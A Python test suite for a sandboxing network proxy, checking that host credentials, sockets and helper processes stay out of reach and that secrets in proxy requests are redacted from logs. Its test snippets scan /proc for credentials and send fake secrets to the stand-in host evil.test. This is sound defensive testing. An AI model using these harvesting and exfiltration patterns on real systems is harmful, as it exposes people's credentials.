"""Nothing of what the host knows about credentials shows inside, in helpers or on record."""
import os
import socket

import net
from net import test

RULES = ["tcp://api.example.test:7000"]
SECRET = "s3cr3t-0123456789"
NAMES = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SOME_API_KEY", "SSH_AUTH_SOCK", "DOCKER_HOST", "KUBECONFIG", "DBUS_SESSION_BUS_ADDRESS", "OP_SESSION_x",
         "HTTPS_PROXY", "WRIT_RESOLVER_KEY", "NPM_TOKEN"]


@test("variables with credentials stay outside, in every process that can be seen")
def environment(w):
    for name in NAMES:
        w.env[name] = f"http://u:{SECRET}@1.2.3.4:1" if "PROXY" in name else SECRET
    got = w.inside(RULES, """
seen = []
for p in os.listdir("/proc"):
    if p.isdigit():
        for f in ("environ", "cmdline"):
            try: seen.append(open("/proc/%s/%s" % (p, f), errors="replace").read())
            except OSError: pass
secret = "s3" + "cr3t"   # this text is a command line too
show([{k: v for k, v in os.environ.items() if secret in v}, any(secret in s for s in seen), len(seen)])
""")
    w.same(got[0], {}, "not in the environment")
    w.same(got[1], False, "nor in that of any process")
    w.ok(got[2] > 1, "though some can be read", got)


@test("no descriptor and no socket of ours is inside")
def handles(w):
    got = w.inside(RULES, """
links = {}
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            for fd in os.listdir("/proc/%s/fd" % p): links[p + "/" + fd] = os.readlink("/proc/%s/fd/%s" % (p, fd))
        except OSError: pass
mine = [v for k, v in links.items() if k.startswith(str(os.getpid()) + "/")]
unix = [l for l in open("/proc/net/unix").read().splitlines()[1:]]
tcp = [l.split()[1] for l in open("/proc/net/tcp").read().splitlines()[1:] if l.split()[3] == "0A"]
show([sorted(mine), unix, len(tcp)])
""")
    w.ok(not [m for m in got[0] if m.startswith("socket:")], "a program has none", got[0])
    w.same([u for u in got[1] if "writ" in u], [], "none has a name that could be connected to")
    w.ok(got[2] >= 3, "the listeners are there, in somebody else's hands", got)


@test("on the host nobody can come through a session's proxy")
def from_outside(w):
    before = listening()
    p = w.started_inside(RULES, 'print("there", flush=True)\nsys.stdin.readline()')
    p.stdout.readline()
    w.same(listening() - before, set(), "a session listens on nothing of the host")
    for port in (1080, 53, 7000):
        for a in ("127.0.0.1", "198.18.0.1", net.HOST):
            with socket.socket() as s:
                s.settimeout(1)
                if s.connect_ex((a, port)) == 0 and a != "198.18.0.1":
                    w.ok(False, f"{a}:{port} is closed")
    p.stdin.close()


def listening():
    found = set()
    for file in ("/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6"):
        for line in net.read(file).splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" or (file.endswith(("udp", "udp6")) and fields[3] == "07"):
                found.add((file, fields[1]))
    return found


@test("nobody can look into a helper, and it leaves no core")
def helpers(w):
    w.zone("api.example.test", net.FIRST)
    w.serve("hold", 7000)
    p = w.started_inside(RULES, """
s = socket.create_connection(("api.example.test", 7000), 5)
s.sendall(b"x")
print("there", flush=True)
sys.stdin.readline()
""")
    net.host.wait_for(lambda: w.world()["holding"] == 1)
    found = net.helpers_of(p.pid)
    w.same(len(found), 2, "two helpers")
    for pid in found:
        limits = next((l.split()[4:6] for l in net.read(f"/proc/{pid}/limits").splitlines() if l.startswith("Max core")), None)
        w.same(limits, ["0", "0"], "no core")
        for file in ("environ", "mem", "maps", "fd/0") if os.geteuid() != 0 else ():
            r = w.call(["head", "-c", "1", f"/proc/{pid}/{file}"])
            w.ok(r.code != 0 and not r.out, f"{file} is closed to its own user", r)
    p.stdin.close()
    p.wait(5)


@test("what a client puts into a request for a host does not reach the record or the terminal")
def redaction(w):
    w.put("s.py", "import os, sys, json\n" + net.INSIDE + f"""
for text in ("CONNECT u:{SECRET}@evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n",
             "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\nProxy-Authorization: Basic {SECRET}\\r\\n\\r\\n",
             "GET http://u:{SECRET}@evil.test/?k={SECRET} HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: {SECRET}\\r\\n\\r\\n"):
    talk("198.18.0.1", 1080, text.encode())
""")
    r = w.run(net.host.PYTHON, "s.py", opts=w.rules(*RULES))
    text = "".join(f.read_text() for f in (w.state / "sessions").glob("*.jsonl"))
    events = [l for l in text.splitlines() if '"net"' in l]
    w.ok(len(events) >= 3, "each is on record", text[-500:])
    w.ok(not any(SECRET in l for l in events), "without it", [l for l in events if SECRET in l])
    w.ok(SECRET not in r.said, "and so is what a person sees", r.said)
